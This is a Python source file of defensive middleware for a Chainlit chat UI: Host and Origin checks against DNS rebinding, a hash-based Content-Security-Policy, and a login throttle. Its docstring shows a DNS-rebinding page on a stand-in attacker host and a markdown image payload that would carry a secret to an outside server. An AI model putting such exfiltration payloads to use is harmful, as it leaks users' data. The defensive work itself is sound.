"""Web security of the chat UI: the Host and origin checks, security headers and the login throttle.

    install(http_app, settings)         # ui/server.py: one ASGI middleware in front of HTTP and the websocket
    WebSecurityMiddleware(asgi_app, hosts=(), allowed_origins=(), throttle=LoginThrottle(), accounts=None)
    login_refused_note(settings, name)  # what the log says about a refused login (never the typed name)

- **Host (DNS rebinding).** A page on ``http://evil.example:8080`` whose name the attacker points at the UI's
  address is same-origin with itself: its requests carry ``Host: evil.example:8080`` and, for a plain GET, no
  ``Origin`` at all. So only the names the UI answers to are served: loopback names (``localhost``,
  ``*.localhost``, 127.0.0.0/8, ``[::1]``) and ``settings.served_host_names`` (``[network] host_names``, a single-address
  ``[network] ui_host``, the hosts of ``[network] allowed_origins``). Any other ``Host`` is refused, on every route and
  on the websocket upgrade (403; logged once per name).
- **Origin.** A browser names the page that made a request in ``Origin`` (every websocket upgrade, every
  socket.io polling request, every fetch that is not a plain GET). An ``Origin`` passes when it is the origin
  the request was sent to (scheme, host and port: an ssh tunnel on another port still works, another service on
  the same machine does not) and its host is one of the names above: the names come from the configuration,
  never from the request, so a forged ``Host`` cannot make its own origin acceptable. With ``[ui]
  allowed_origins`` set, exactly those origins pass. Anything else is refused (403; a websocket is closed before it is accepted),
  and so is ``Origin: null`` (a sandboxed frame, a ``file:`` page). Chainlit's socket server has no origin check
  of its own, so this middleware wraps the socket.io mount too. Requests without ``Origin`` (scripts, curl) pass
  on to the normal login rules. ``X-Forwarded-*`` headers are believed only from ``[network] trusted_proxies``
  (uvicorn applies them before this middleware; the launcher sets its ``FORWARDED_ALLOW_IPS``, empty by
  default). Each refused origin is logged once (with the origin).
- **Refusals** answer a fixed text in the browser's language that never repeats the Host or Origin sent (no
  input echoed). The log names the refused value (quoted, cut to 200 characters), at most ``MAX_LOGGED`` values
  per kind, never a header that could carry a key.
- **Headers.** Every HTTP answer gets a Content-Security-Policy (images only from the app itself or
  ``data:``: a model answer with ``![x](http://elsewhere/?secret)`` cannot make the browser call out; of
  inline scripts only a page's own, by their SHA-256, not 'unsafe-inline'),
  ``frame-ancestors 'none'`` (+ ``X-Frame-Options``), ``X-Content-Type-Options: nosniff`` and a
  same-origin referrer policy.
- **Login throttle.** ``POST /login`` is counted per client (from a trusted proxy, the client its
  X-Forwarded-For names; else the peer; an IPv6 client by its /64, which one machine usually holds whole) and
  per account name (a guess spread over many addresses at one account): after ``free`` failures each further
  attempt must wait, the wait doubling (``base_delay`` … ``max_delay``), except at a locked name for a client that
  has not failed (the lock slows a guesser, not the name's owner signing in from a clean client); an attempt that comes too early is
  refused at once with 429, ``Retry-After`` and a clear message (no sleeping: nothing is held open, the event
  loop and open chats are not slowed). Unknown names are counted like real ones (else the 429 would tell which
  names exist); the counts are kept by an HMAC of the name (``fingerprint``), keyed with the server's secret, and
  the real accounts' counts are never dropped to make room. A successful login clears the client and the name.

A plain ASGI class like ``preferences.BrowserCookieMiddleware`` (Starlette's BaseHTTPMiddleware does not
see websockets). No Chainlit import: ``install`` only touches the Starlette app's middleware list.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import hmac
import ipaddress
import json
import logging
import os
import re
import secrets
import time
from collections import OrderedDict
from collections.abc import Callable, Collection, Iterable, Mapping
from dataclasses import dataclass
from typing import Any

from backend.settings import Settings, canonical_origin, host_name_of, is_loopback, served_host_names
from backend.text import pick_language, t

logger = logging.getLogger(__name__)

LOGIN_PATH = "/login"
MAX_LOGGED = 100  # refused values logged per kind (Host names, origins); then one line says the rest are not
MAX_LOGIN_BODY = 64 * 1024  # bytes of a POST /login read for its user name (Chainlit's form is well under 1 KB)
ACCOUNT_FREE = 10  # failed sign-ins at one name (from anywhere) before its waits start: its owner may mistype

#: What Chainlit 2.12's single-page app needs, and no more. Its index.html inlines two small scripts (one holds
#: the theme and transports Chainlit injects): an HTML page gets the hashes of its own inline scripts in
#: ``script-src`` (``csp_for``), so no other inline script runs (no 'unsafe-inline'). It links Google Fonts and
#: KaTeX's stylesheet (jsdelivr); the socket.io client connects to the page's own origin ('self' covers ws:/wss:
#: to it in current browsers). Images: the app's own (avatars, logo, elements) and data:/blob: URLs, nothing remote.
_POLICY = (
    "default-src 'self'",
    "{script_src}",
    "style-src 'self' 'unsafe-inline' https://fonts.googleapis.com https://cdn.jsdelivr.net",
    "font-src 'self' data: https://fonts.gstatic.com https://cdn.jsdelivr.net",
    "img-src 'self' data: blob:",
    "media-src 'self' data: blob:",
    "connect-src 'self'",
    "worker-src 'self' blob:",
    "frame-src 'self'",
    "object-src 'none'",
    "base-uri 'self'",
    "form-action 'self'",
    "frame-ancestors 'none'",
)
_INLINE_SCRIPT = re.compile(rb"<script\b(?![^>]*\bsrc\s*=)[^>]*>(.*?)</script\s*>", re.S | re.I)
MAX_HASHED_PAGE = 1 << 20  # bytes of an HTML page read for its inline scripts; a bigger one gets none allowed


def csp_for(html: bytes | None = None) -> bytes:
    """The Content-Security-Policy of an answer: for an HTML page, its own inline scripts allowed by their
    SHA-256 (CSP level 2); nothing inline otherwise."""
    hashes = sorted(
        {
            "'sha256-" + base64.b64encode(hashlib.sha256(body).digest()).decode() + "'"
            for body in _INLINE_SCRIPT.findall(html or b"")
        }
    )
    return "; ".join(_POLICY).format(script_src=" ".join(["script-src 'self'", *hashes])).encode()


CONTENT_SECURITY_POLICY = csp_for().decode()  # of every answer that is not an HTML page
SECURITY_HEADERS: tuple[tuple[bytes, bytes], ...] = (
    (b"content-security-policy", CONTENT_SECURITY_POLICY.encode()),
    (b"x-content-type-options", b"nosniff"),
    (b"x-frame-options", b"DENY"),
    (b"referrer-policy", b"same-origin"),
)


def _header_of(message: dict[str, Any], name: bytes) -> str:
    """A header of an ASGI response start message, lower-cased ("" when absent)."""
    for key, value in message.get("headers") or []:
        if key.lower() == name:
            return bytes(value).decode("latin-1").strip().lower()
    return ""


def _decoded(body: bytes, encoding: str) -> bytes:
    """An HTML body as sent (Chainlit gzips pages); b"" when it cannot be read (then no inline script runs)."""
    if encoding in ("", "identity"):
        return body
    if encoding == "gzip":
        try:
            return gzip.decompress(body)
        except (OSError, EOFError):
            return b""
    return b""


def host_name(host_header: str) -> str:
    """The name in a Host header, without the port, as ``settings.host_name_of`` writes names: "[::1]:8080" ->
    "::1", "Chat.Local.:80" -> "chat.local"; "" when it is no host name at all."""
    host = host_header.strip().lower()
    if host.startswith("["):
        host = host[1 : host.find("]")] if "]" in host else host
    elif host.count(":") == 1:
        host = host.rsplit(":", 1)[0]
    return host_name_of(host) or ""


def is_loopback_name(name: str) -> bool:
    return is_loopback(name) or name.endswith(".localhost")


def _header(scope: dict[str, Any], name: bytes) -> str | None:
    for key, value in scope.get("headers") or []:
        if key.lower() == name:
            return bytes(value).decode("latin-1")
    return None


def request_scheme(scope: dict[str, Any]) -> str:
    """http or https: the request's scheme (X-Forwarded-Proto only from a trusted proxy), ws/wss as http/https."""
    scheme = scope.get("scheme") or "http"
    return {"ws": "http", "wss": "https"}.get(scheme, scheme)


def client_key(address: str) -> str:
    """Whom the login throttle counts: an IPv4 address as it is, an IPv6 client by its /64 (one machine usually
    holds a whole /64 and could take a fresh address for every guess), an IPv4-mapped one as its IPv4."""
    try:
        ip = ipaddress.ip_address(address.split("%", 1)[0])
    except ValueError:
        return address
    if isinstance(ip, ipaddress.IPv6Address):
        if ip.ipv4_mapped is not None:
            return str(ip.ipv4_mapped)
        return str(ipaddress.ip_network(f"{ip}/64", strict=False))
    return str(ip)


#: Keys the login fingerprints when the server has no secret yet (login off: nothing is counted by name then).
_PROCESS_SECRET = secrets.token_urlsafe(32)


def server_secret(env: Mapping[str, str] = os.environ) -> str:
    """The secret Chainlit signs logins with (CHAINLIT_AUTH_SECRET, set by history.prepare before install)."""
    return env.get("CHAINLIT_AUTH_SECRET") or _PROCESS_SECRET


def fingerprint(text: str, secret: str) -> str:
    """A short HMAC-SHA256 of what was typed, keyed with the server's secret: two refused logins with the same
    name can be told apart from others in the log, but a log reader cannot test guesses against it (a bare hash
    of a password typed into the name field could be cracked offline)."""
    message = b"qwenchat-login-name\0" + text.encode("utf-8", "surrogatepass")
    return hmac.new(secret.encode(), message, hashlib.sha256).hexdigest()[:12]


# ---------------------------------------------------------------- login throttle


@dataclass
class _Attempts:
    failures: int = 0
    locked_until: float = 0.0
    last: float = 0.0


class LoginThrottle:
    """Failed logins per key (a client, or the fingerprint of a name); a growing wait after ``free`` failures.

    Every attempt is counted as a failure when it starts (so a burst of parallel attempts cannot slip
    past the count while the first are still being checked); a successful login clears the key. At most
    ``max_clients`` keys are kept, the least recent dropped first, except those in ``keep`` (the real accounts'
    fingerprints: a flood of made-up names cannot wipe the count of a real one).
    """

    def __init__(
        self,
        *,
        free: int = 5,
        base_delay: float = 1.0,
        max_delay: float = 300.0,
        forget_after: float = 3600.0,
        max_clients: int = 10_000,
        clock: Callable[[], float] = time.monotonic,
        keep: Collection[str] = (),
        describe: Callable[[str], str] = "from {}".format,
    ) -> None:
        self.free, self.base_delay, self.max_delay = free, base_delay, max_delay
        self.forget_after, self.max_clients, self.clock = forget_after, max_clients, clock
        self.keep, self.describe = frozenset(keep), describe
        self._clients: OrderedDict[str, _Attempts] = OrderedDict()
        self._kept: dict[str, _Attempts] = {}

    def delay_after(self, failures: int) -> float:
        """The wait imposed after ``failures`` failed attempts: 0 up to ``free``, then doubling."""
        if failures < self.free:
            return 0.0
        return float(min(self.max_delay, self.base_delay * 2 ** min(failures - self.free, 30)))

    def _entry(self, key: str, now: float) -> _Attempts:
        table: dict[str, _Attempts] = self._kept if key in self.keep else self._clients
        entry = table.get(key)
        if entry is not None and now - entry.last > self.forget_after and now >= entry.locked_until:
            entry = None
        if entry is None:
            entry = _Attempts()
        table[key] = entry
        if table is self._clients:
            self._clients.move_to_end(key)
            while len(self._clients) > self.max_clients:
                self._clients.popitem(last=False)
        return entry

    def wait(self, key: str) -> float:
        """Seconds until ``key`` may try again (0: now); counts nothing."""
        now = self.clock()
        entry = self._entry(key, now)
        return max(0.0, entry.locked_until - now)

    def begin(self, key: str, *, waived: bool = False) -> float:
        """An attempt starts: 0 = go ahead (counted as failed until ``succeeded``), else seconds to wait. ``waived``:
        it goes ahead during a wait (a clean client at a locked name) and is counted all the same, so that a guess
        spread over fresh addresses keeps lengthening the name's wait for every client that has failed there."""
        wait = self.wait(key)
        if wait > 0 and not waived:
            return wait
        now = self.clock()
        entry = self._entry(key, now)
        entry.failures += 1
        entry.last = now
        delay = self.delay_after(entry.failures)
        if delay:
            entry.locked_until = max(entry.locked_until, now + delay)
            logger.warning(
                "login: %d failed attempts %s; the next one is allowed in %.0f s",
                entry.failures,
                self.describe(key),
                delay,
            )
        return 0.0

    def succeeded(self, key: str) -> None:
        self._clients.pop(key, None)
        self._kept.pop(key, None)

    def failures(self, key: str) -> int:
        entry = self._clients.get(key) or self._kept.get(key)
        return entry.failures if entry else 0


def login_refused_note(settings: Settings, username: str, secret: str | None = None) -> str:
    """How a refused login is logged: whether the name was a configured one, and the fingerprint of what was
    typed (people type their password into the name field; an HMAC with the server's secret), never the name."""
    mark = fingerprint(username, secret if secret is not None else server_secret())
    known = username == settings.login.username or username in settings.login.users
    which = "a configured user name" if known else "an unknown user name"
    return f"{which} ({len(username)} characters, fingerprint {mark})"


# ---------------------------------------------------------------- the middleware


class WebSecurityMiddleware:
    """ASGI: Host and origin checks (HTTP and websocket), security headers, login throttle. See the module doc.

    ``hosts``: the names served besides loopback ones (``settings.served_host_names``). ``throttle`` counts
    clients, ``accounts`` the names typed at ``POST /login`` (by their ``fingerprint`` under ``secret``).
    """

    def __init__(
        self,
        app: Any,
        *,
        hosts: Iterable[str] = (),
        allowed_origins: Iterable[str] = (),
        throttle: LoginThrottle | None = None,
        accounts: LoginThrottle | None = None,
        secret: str | None = None,
        language: str = "auto",
        login_path: str = LOGIN_PATH,
    ) -> None:
        self.app = app
        allowed = [canonical_origin(o) for o in allowed_origins]
        self.allowed: frozenset[str] | None = frozenset(o for o in allowed if o) or None
        names = [host_name_of(h) for h in hosts]
        names += [host_name(o.split("://", 1)[1]) for o in self.allowed or ()]
        self.hosts = frozenset(n for n in names if n)
        self.throttle, self.accounts = throttle, accounts
        self.secret = secret if secret is not None else server_secret()
        self.language = language
        self.login_path = login_path
        self._logged: dict[str, set[str]] = {}

    def serves(self, name: str) -> bool:
        """Whether the UI answers to this host name (from a Host header or an origin)."""
        return bool(name) and (is_loopback_name(name) or name in self.hosts)

    def origin_allowed(self, origin: str, scope: dict[str, Any]) -> bool:
        canonical = canonical_origin(origin)  # "null" (sandboxed frames, file:) is never allowed
        if canonical is None:
            return False
        if self.allowed is not None:
            return canonical in self.allowed
        # The page's own origin, and a name the UI answers to by configuration: a Host the request brings never
        # makes an origin acceptable by itself (before [network] host_names, any Host did when the UI was not on loopback).
        name = host_name(canonical.partition("://")[2])
        return self.serves(name) and canonical == canonical_origin(
            f"{request_scheme(scope)}://{_header(scope, b'host')}"
        )

    def host_allowed(self, host: str) -> bool:
        return self.serves(host_name(host))

    def _lang(self, scope: dict[str, Any]) -> str:
        if self.language != "auto":
            return self.language
        return pick_language(_header(scope, b"accept-language"))

    async def __call__(self, scope: dict[str, Any], receive: Any, send: Any) -> None:
        kind = scope.get("type")
        if kind not in ("http", "websocket"):
            await self.app(scope, receive, send)
            return
        host = _header(scope, b"host") or ""
        if not self.host_allowed(host):
            self._log_once(
                "host",
                host,
                "refused a %s request for Host %r: the UI answers only to loopback names and %s (a DNS-rebinding "
                "page would use another name); add the name to [network] host_names if people open the chat under it",
                kind,
                host[:200],
                ", ".join(sorted(self.hosts)) or "no other name ([network] host_names is empty)",
            )
            await self._refuse(scope, receive, send, "security.host_refused")
            return
        origin = _header(scope, b"origin")
        if origin is not None and not self.origin_allowed(origin, scope):
            expected = ", ".join(sorted(self.allowed)) if self.allowed else "the UI's own page"
            self._log_once(
                "origin",
                origin,
                "refused a %s request from origin %r (%s %s): only %s may use the UI; set [network] allowed_origins "
                "to add one",
                kind,
                origin[:200],
                scope.get("method", "GET"),
                scope.get("path"),
                expected,
            )
            await self._refuse(scope, receive, send, "security.origin_refused")
            return
        if kind == "websocket":
            await self.app(scope, receive, send)
            return
        send = self._with_headers(send)
        if self.throttle is not None and scope.get("method") == "POST" and scope.get("path") == self.login_path:
            await self._login(scope, receive, send, self.throttle)
            return
        await self.app(scope, receive, send)

    def _log_once(self, kind: str, value: str, message: str, *args: Any) -> None:
        """A refusal, logged the first time this value is refused (at most MAX_LOGGED values of each kind)."""
        seen = self._logged.setdefault(kind, set())
        if value in seen or len(seen) > MAX_LOGGED:
            return
        seen.add(value)
        if len(seen) > MAX_LOGGED:
            logger.warning(
                "refused %s values: %d logged, further ones are refused without a log line", kind, MAX_LOGGED
            )
            return
        logger.warning(message, *args)

    async def _refuse(self, scope: dict[str, Any], receive: Any, send: Any, key: str) -> None:
        """403 with a fixed text (never the refused value); a websocket is closed before it is accepted."""
        if scope.get("type") == "websocket":
            message = await receive()  # websocket.connect; closing before accepting answers HTTP 403
            if message.get("type") == "websocket.connect":
                await send({"type": "websocket.close", "code": 1008})
            return
        body = t(key, self._lang(scope)).encode()
        await _plain(send, 403, body, [(b"content-type", b"text/plain; charset=utf-8"), *SECURITY_HEADERS])

    def _with_headers(self, send: Any) -> Any:
        """``send`` with the security headers added; an HTML page is held until its body is whole (up to
        ``MAX_HASHED_PAGE``) so its policy can name the hashes of its inline scripts."""
        held: dict[str, Any] = {}
        body: list[bytes] = []

        def start(message: dict[str, Any], html: bytes | None) -> dict[str, Any]:
            headers = list(message.get("headers") or [])
            have = {k.lower() for k, _ in headers}
            policy = csp_for(html) if html is not None else CONTENT_SECURITY_POLICY.encode()
            headers += [
                (k, policy if k == b"content-security-policy" else v) for k, v in SECURITY_HEADERS if k not in have
            ]
            return {**message, "headers": headers}

        async def send_with_headers(message: dict[str, Any]) -> None:
            kind = message.get("type")
            if kind == "http.response.start":
                if _header_of(message, b"content-type").startswith("text/html"):
                    held["start"] = message  # sent with the body, once its inline scripts are known
                    return
                message = start(message, None)
            elif kind == "http.response.body" and "start" in held:
                body.append(message.get("body", b""))
                more = message.get("more_body", False)
                size = sum(map(len, body))
                if more and size <= MAX_HASHED_PAGE:
                    return
                page = b"".join(body)
                html = (
                    _decoded(page, _header_of(held["start"], b"content-encoding")) if size <= MAX_HASHED_PAGE else b""
                )
                await send(start(held.pop("start"), html))
                message = {**message, "body": page}
            await send(message)

        return send_with_headers

    async def _login(self, scope: dict[str, Any], receive: Any, send: Any, throttle: LoginThrottle) -> None:
        """POST /login: refused at once (429) while the client or the name typed waits; else counted and passed on."""
        client = client_key((scope.get("client") or ("unknown", 0))[0])
        body = await _read_body(receive)
        if body is None:  # too big for a login form, or the client left
            await _plain(send, 413, b"", [])
            return
        account = fingerprint(await _typed_name(scope, body), self.secret) if self.accounts is not None else ""
        by_account = self.accounts.wait(account) if self.accounts is not None else 0.0
        waived = bool(by_account) and throttle.failures(client) == 0
        if waived:
            # The name's lock slows a guesser spread over many addresses, not its owner: a client with no failed
            # attempt gets its try (its failure is counted at the name and then puts it under the lock too).
            by_account = 0.0
        wait = max(throttle.wait(client), by_account)
        if wait > 0:
            seconds = max(1, int(wait + 0.999))
            key = "security.login_throttled_account" if by_account >= wait else "security.login_throttled"
            # Chainlit's login page shows {"detail"} of a failed POST /login in a toast.
            body = json.dumps({"detail": t(key, self._lang(scope), seconds=seconds)}, ensure_ascii=False).encode()
            headers = [(b"content-type", b"application/json"), (b"retry-after", str(seconds).encode())]
            await _plain(send, 429, body, headers)
            return
        throttle.begin(client)
        if self.accounts is not None:
            self.accounts.begin(account, waived=waived)
        replayed = False

        async def replay() -> dict[str, Any]:
            nonlocal replayed
            if replayed:
                return dict(await receive())
            replayed = True
            return {"type": "http.request", "body": body, "more_body": False}

        async def watch(message: dict[str, Any]) -> None:
            if message.get("type") == "http.response.start" and 200 <= int(message.get("status", 0)) < 300:
                throttle.succeeded(client)
                if self.accounts is not None:
                    self.accounts.succeeded(account)
            await send(message)

        await self.app(scope, replay, watch)


async def _read_body(receive: Any) -> bytes | None:
    """The whole request body (None past ``MAX_LOGIN_BODY`` bytes, or when the client disconnects)."""
    parts: list[bytes] = []
    size = 0
    while True:
        message = await receive()
        if message.get("type") != "http.request":
            return None
        parts.append(message.get("body", b""))
        size += len(parts[-1])
        if size > MAX_LOGIN_BODY:
            return None
        if not message.get("more_body", False):
            return b"".join(parts)


async def _typed_name(scope: dict[str, Any], body: bytes) -> str:
    """The ``username`` of a login form (urlencoded or multipart, as Chainlit's page sends it); "" if none."""
    from starlette.exceptions import HTTPException
    from starlette.formparsers import MultiPartException
    from starlette.requests import Request

    async def once() -> dict[str, Any]:
        return {"type": "http.request", "body": body, "more_body": False}

    try:
        async with Request(dict(scope), once).form(max_files=0, max_fields=20) as form:
            name = form.get("username")
    except (
        HTTPException,
        MultiPartException,
        ValueError,
    ):  # a malformed form: Chainlit answers it (422); counted per client only, by the name ""
        return ""
    return name if isinstance(name, str) else ""


async def _plain(send: Any, status: int, body: bytes, headers: list[tuple[bytes, bytes]]) -> None:
    headers = [*headers, (b"content-length", str(len(body)).encode())]
    await send({"type": "http.response.start", "status": status, "headers": headers})
    await send({"type": "http.response.body", "body": body})


def install(http_app: Any, settings: Settings, *, throttle: LoginThrottle | None = None) -> None:
    """Put the middleware in front of everything (Chainlit's routes and its socket.io mount). Idempotent.
    Chainlit's own CORS answers the same origins (backend/ui/chainlit_settings.py sets them)."""
    origins = [o for o in (canonical_origin(x) for x in settings.network.allowed_origins) if o]
    if any(m.cls is WebSecurityMiddleware for m in http_app.user_middleware):
        return
    hosts = served_host_names(settings)
    if not is_loopback(settings.network.ui_host) and not hosts:
        logger.warning(
            "[network] ui_host = %r, but [network] host_names is empty: only loopback names are served (every other Host gets "
            "403); list the names and addresses people open the chat at in [network] host_names",
            settings.network.ui_host,
        )
    secret = server_secret()
    accounts = None
    if settings.login.enable:
        real = [fingerprint(name, secret) for name in (settings.login.username, *settings.login.users)]
        accounts = LoginThrottle(free=ACCOUNT_FREE, keep=real, describe="at the user name with fingerprint {}".format)
    http_app.add_middleware(
        WebSecurityMiddleware,
        hosts=hosts,
        allowed_origins=origins,
        throttle=throttle or (LoginThrottle() if settings.login.enable else None),
        accounts=accounts,
        secret=secret,
        language=settings.ui.language,
    )
